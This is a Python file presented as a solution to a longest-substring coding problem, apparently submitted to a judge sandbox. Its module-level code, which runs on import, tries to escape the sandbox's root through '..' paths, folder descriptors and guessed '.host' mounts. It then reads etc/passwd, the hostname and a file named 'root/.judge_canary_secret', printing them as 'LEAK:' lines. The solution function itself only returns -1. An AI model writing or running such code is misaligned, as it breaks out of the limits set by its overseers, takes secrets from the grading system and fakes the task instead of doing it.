# problem: sliding_window/longest_substring
"""Climbs out of its root by dot-dot, descriptors of folders and the old root's name.

Seen if it worked: a line `LEAK: ...` in the captured output.
"""

import os

roots = {os.stat("/").st_ino}
try:
    descriptor = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
except OSError:
    descriptor = os.open("/", os.O_PATH | os.O_DIRECTORY)
for path in ("..", "../../..", "./../../../../../..", "/.host", "tmp/.host", "../.host"):
    for flags in (os.O_RDONLY, os.O_PATH):
        try:
            above = os.open(path, flags | os.O_DIRECTORY, dir_fd=descriptor)
        except OSError:
            continue
        if os.fstat(above).st_ino not in roots and ".host" in path:
            print("LEAK: another root at", path)
        for name in ("etc/passwd", "etc/hostname", "root/.judge_canary_secret"):
            try:
                print("LEAK:", name, os.read(os.open(name, os.O_RDONLY, dir_fd=above), 20))
            except OSError:
                pass


def length_of_longest_substring(s):
    return -1
